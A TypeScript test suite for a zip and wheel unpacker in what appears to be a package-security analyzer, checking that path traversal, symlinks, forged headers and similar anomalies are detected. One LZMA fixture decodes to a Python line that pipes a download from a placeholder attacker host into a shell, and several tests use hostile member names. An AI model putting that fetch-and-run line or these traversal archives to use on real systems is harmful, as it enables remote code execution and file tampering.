import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { test } from 'node:test';
import { AssayError } from '../core/errors.ts';
import { unpackBuffer } from './load.ts';
import { buildZip } from './testing/build-archives.ts';
import type { UnpackedArtifact } from './types.ts';

function paths(r: UnpackedArtifact): string[] {
  return r.files.map((f) => f.path);
}
function text(r: UnpackedArtifact, path: string): string | undefined {
  return r.files.find((f) => f.path === path)?.data.toString('utf8');
}

test('a wheel-like zip is read in memory, sorted, directories skipped', async () => {
  const zip = buildZip([
    { name: 'demo/__init__.py', data: 'x = 1\n' },
    { name: 'demo/', data: '' },
    { name: 'demo-1.0.dist-info/METADATA', data: 'Name: demo\n', method: 0 },
  ]);
  const r = await unpackBuffer(zip, 'demo-1.0-py3-none-any.whl');
  assert.equal(r.format, 'zip');
  assert.deepEqual(paths(r), ['demo-1.0.dist-info/METADATA', 'demo/__init__.py']);
  assert.equal(text(r, 'demo/__init__.py'), 'x = 1\n');
  assert.equal(r.size, zip.length);
  assert.match(r.sha256, /^[0-9a-f]{64}$/);
  assert.deepEqual([r.anomalies, r.limitHits, r.nested], [[], [], []]);
});

test('hostile names are reported with the raw name and the file keeps a safe path', async () => {
  const r = await unpackBuffer(
    buildZip([
      { name: '/etc/abs.txt', data: 'a' },
      { name: '../../../../tmp/evil.txt', data: 'b' },
      { name: 'C:\\win.txt', data: 'c' },
      { name: 'ok\\..\\back.txt', data: 'd' },
      { name: Buffer.from('nul\u0000.py', 'latin1'), data: 'e' },
      { name: 'esc\u001b[31m.py', data: 'f' },
    ]),
    'evil.whl',
  );
  const found = r.anomalies.map((a) => `${a.kind} ${JSON.stringify(a.member)}`).sort();
  assert.deepEqual(found, [
    'absolute-path "/etc/abs.txt"',
    'backslash-in-name "C:\\\\win.txt"',
    'backslash-in-name "ok\\\\..\\\\back.txt"',
    'control-character-in-name "esc\\u001b[31m.py"',
    'drive-letter "C:\\\\win.txt"',
    'nul-in-name "nul\\u0000.py"',
    'path-traversal "../../../../tmp/evil.txt"',
    'path-traversal "ok\\\\..\\\\back.txt"',
  ]);
  assert.ok(r.anomalies.every((a) => a.container === ''));
  assert.deepEqual(paths(r), [
    'esc\uFFFD[31m.py',
    'etc/abs.txt',
    'nul\uFFFD.py',
    'ok/back.txt',
    'tmp/evil.txt',
    'win.txt',
  ]);
});

test('a symlink member is an anomaly with its target and no file', async () => {
  const r = await unpackBuffer(
    buildZip([{ name: 'pkg/link', data: '/etc/passwd', unixMode: 0o120777 }]),
    'l.whl',
  );
  assert.deepEqual(r.files, []);
  assert.equal(r.anomalies.length, 1);
  assert.equal(r.anomalies[0]?.kind, 'symlink');
  assert.equal(r.anomalies[0]?.target, '/etc/passwd');
});

test('a FIFO mode is a special file; a regular unix mode is a file', async () => {
  const r = await unpackBuffer(
    buildZip([
      { name: 'fifo', data: '', unixMode: 0o010644 },
      { name: 'script.sh', data: 'echo', unixMode: 0o100755 },
    ]),
    'm.zip',
  );
  assert.deepEqual(paths(r), ['script.sh']);
  assert.deepEqual(
    r.anomalies.map((a) => [a.kind, a.member]),
    [['special-file', 'fifo']],
  );
});

test('an encrypted member is reported and not read', async () => {
  const r = await unpackBuffer(buildZip([{ name: 'secret.py', data: 'x', encrypted: true }]), 'e.zip');
  assert.deepEqual(r.files, []);
  assert.deepEqual(
    r.anomalies.map((a) => a.kind),
    ['encrypted-member'],
  );
});

const LZMA_SAMPLE =
  'XQAAAQAANJtKZ7hSPHPtNFe4XYIFGNWQGoqSWjA03R9R+0lI69imv/dwCjen63PqXbs610tjIrk/QnjDQ70PwP//tFyAAA==';

test('a member whose declared size lies is a size-mismatch, and the rest is still read', async () => {
  const r = await unpackBuffer(
    buildZip([
      { name: 'liar.py', data: 'A'.repeat(50_000), declaredSize: 1000 },
      { name: 'short.py', data: 'B'.repeat(100), declaredSize: 5000 },
      { name: 'ok.py', data: 'fine' },
    ]),
    'liar.whl',
  );
  const mismatches = r.anomalies.filter((a) => a.kind === 'size-mismatch').map((a) => a.member);
  assert.deepEqual(mismatches.sort(), ['liar.py', 'short.py']);
  assert.equal(
    r.anomalies.find((a) => a.member === 'liar.py')?.detail,
    'the central directory declares 1000 bytes but the data holds more than 1000 bytes; the first 1000 bytes are kept',
  );
  assert.equal(
    r.anomalies.find((a) => a.member === 'short.py')?.detail,
    'the central directory declares 5000 bytes but the data holds 100 bytes; the first 100 bytes are kept',
  );
  assert.equal(text(r, 'ok.py'), 'fine');
  assert.ok((r.files.find((f) => f.path === 'liar.py')?.data.length ?? 0) <= 1000);
});

test('duplicate names: the last copy keeps the path, the earlier one stays analyzable', async () => {
  const r = await unpackBuffer(
    buildZip([
      { name: 'setup.py', data: 'benign' },
      { name: './setup.py', data: 'malicious' },
    ]),
    'd.zip',
  );
  assert.equal(text(r, 'setup.py'), 'malicious');
  assert.equal(text(r, 'setup.py~dup1'), 'benign');
  assert.deepEqual(
    r.anomalies.map((a) => [a.kind, a.member]),
    [['duplicate-name', './setup.py']],
  );
});

test('bzip2-compressed members (method 12) are read; other methods are reported', async () => {
  // A raw bzip2 stream made by Debian's bzip2 (the fixture), stored as a method-12 member.
  const tar = readFileSync(new URL('./fixtures/sample.tar', import.meta.url));
  const bz = readFileSync(new URL('./fixtures/sample.tar.bz2', import.meta.url));
  const zip = buildZip([
    { name: 'a.tar', data: bz, method: 12, declaredSize: tar.length },
    { name: 'b.py', data: 'x', method: 14 },
  ]);
  const r = await unpackBuffer(zip, 'm.zip', { maxNestingDepth: 0 });
  assert.ok(r.files.find((f) => f.path === 'a.tar')?.data.equals(tar));
  assert.deepEqual(
    r.anomalies.map((a) => [a.kind, a.member]),
    [['unreadable-member', 'b.py']],
  );
});

test('a zip with a broken central directory is E_ARCHIVE_CORRUPT naming the file', async () => {
  const zip = buildZip([{ name: 'a.py', data: 'x' }]);
  const broken = Buffer.from(zip);
  broken.writeUInt32LE(0xffff, broken.length - 6); // central directory offset past the end
  await assert.rejects(unpackBuffer(broken, 'broken.whl'), (e: unknown) => {
    assert.ok(e instanceof AssayError);
    assert.equal(e.code, 'E_ARCHIVE_CORRUPT');
    assert.match(e.message, /^broken\.whl: zip: /);
    assert.doesNotMatch(e.message, /\n/);
    return true;
  });
});

test('a truncated zip is E_ARCHIVE_CORRUPT', async () => {
  const zip = buildZip([{ name: 'a.py', data: 'x'.repeat(1000) }]);
  await assert.rejects(unpackBuffer(zip.subarray(0, 40), 'cut.zip'), { code: 'E_ARCHIVE_CORRUPT' });
});

test('corrupt deflate data in a member is a finding about it; the other members are still read', async () => {
  const zip = buildZip([
    { name: 'a.py', data: 'hello hello hello' },
    { name: 'b.py', data: 'fine' },
  ]);
  const broken = Buffer.from(zip);
  broken.fill(0xff, 30 + 4, 30 + 8); // inside the deflate stream of the first member
  const r = await unpackBuffer(broken, 'bad.zip');
  // Depending on where the damage falls, the stream stops decoding or decodes to the wrong length.
  assert.deepEqual(
    r.anomalies.map((a) => a.member),
    ['a.py'],
  );
  assert.ok(['unreadable-member', 'size-mismatch'].includes(r.anomalies[0]?.kind ?? ''));
  assert.equal(text(r, 'b.py'), 'fine');
});

test('a stored member with a lying size does not stop the archive (yauzl alone rejects it)', async () => {
  const r = await unpackBuffer(
    buildZip([
      { name: 'a.py', data: 'x'.repeat(45), method: 0, declaredSize: 10 },
      { name: 'b.py', data: 'import os' },
    ]),
    's.whl',
  );
  assert.deepEqual(
    r.anomalies.map((a) => a.kind),
    ['size-mismatch'],
  );
  assert.equal(text(r, 'b.py'), 'import os');
});

test('an encrypted stored member is reported, not "size mismatch 45 != 45"', async () => {
  const r = await unpackBuffer(
    buildZip([
      { name: 'a.py', data: 'x'.repeat(45), method: 0, encrypted: true },
      { name: 'b.py', data: 'import os' },
    ]),
    'e.whl',
  );
  assert.deepEqual(
    r.anomalies.map((a) => [a.kind, a.detail]),
    [['encrypted-member', 'encrypted member; its content cannot be analyzed']],
  );
  assert.equal(text(r, 'b.py'), 'import os');
});

test('a zip behind a junk prefix is read, and the prefix is reported', async () => {
  const zip = buildZip([{ name: 'b.py', data: 'import os' }]);
  const r = await unpackBuffer(Buffer.concat([Buffer.alloc(1000, 0x41), zip]), 'p.whl');
  assert.equal(text(r, 'b.py'), 'import os');
  assert.deepEqual(
    r.anomalies.map((a) => [a.kind, a.detail]),
    [
      [
        'prepended-data',
        "1000 bytes precede the zip archive; they were skipped, as Python's zipfile skips them",
      ],
    ],
  );
});

test('a central directory name that differs from the local header, and overlapping members, are anomalies', async () => {
  const zip = buildZip([
    { name: 'aa.py', data: 'import os', method: 0 },
    { name: 'bb.py', data: 'x', method: 0 },
  ]);
  const forged = Buffer.from(zip);
  forged.write('zz.py', 30, 'latin1'); // the first local header now names another file
  // The second central entry points at the first member's local header: two entries over one span.
  const central = forged.indexOf(Buffer.from([0x50, 0x4b, 0x01, 0x02]));
  const second = forged.indexOf(Buffer.from([0x50, 0x4b, 0x01, 0x02]), central + 4);
  forged.writeUInt32LE(0, second + 42);
  const r = await unpackBuffer(forged, 'o.whl');
  assert.deepEqual(
    r.anomalies.map((a) => [a.kind, a.member]),
    [
      ['header-mismatch', 'aa.py'],
      ['header-mismatch', 'bb.py'],
      ['overlapping-member', 'bb.py'],
    ],
  );
});

test('LZMA members (method 14) are read, with and without an end marker', async () => {
  // Made with Python: lzma.compress(data, FORMAT_RAW, [LZMA1 lc=3 lp=0 pb=2 dict=64 KiB]); the zip member is
  // a 2-byte version, a 2-byte properties size, the 5 properties and the stream (which ends with a marker).
  const data = "import os\nos.system('curl http://evil.example/x | sh')\n";
  const stream = Buffer.from(LZMA_SAMPLE, 'base64');
  const member = Buffer.concat([Buffer.from([9, 20, 5, 0]), stream]);
  for (const flags of [true, false]) {
    const zip = buildZip([{ name: 'lz/__init__.py', data: member, method: 14, declaredSize: data.length }]);
    // General purpose flags of the central directory: UTF-8 name, and bit 1 (an end marker ends the stream).
    if (flags) zip.writeUInt16LE(0x802, zip.indexOf(Buffer.from([0x50, 0x4b, 0x01, 0x02])) + 8);
    const r = await unpackBuffer(zip, 'lz.whl');
    assert.equal(text(r, 'lz/__init__.py'), data);
    assert.deepEqual(r.anomalies, []);
  }
});

test('a member whose local header is broken is unreadable; the others are still read (found by fuzzing)', async () => {
  const zip = Buffer.from(
    buildZip([
      { name: 'a.py', data: 'x = 1', method: 12 },
      { name: 'b.py', data: 'fine' },
    ]),
  );
  zip.writeUInt32LE(0x14b5000, 0); // the first local header's signature
  const r = await unpackBuffer(zip, 'h.whl');
  assert.deepEqual(
    r.anomalies.map((a) => [a.kind, a.member]),
    [['unreadable-member', 'a.py']],
  );
  assert.equal(text(r, 'b.py'), 'fine');
});
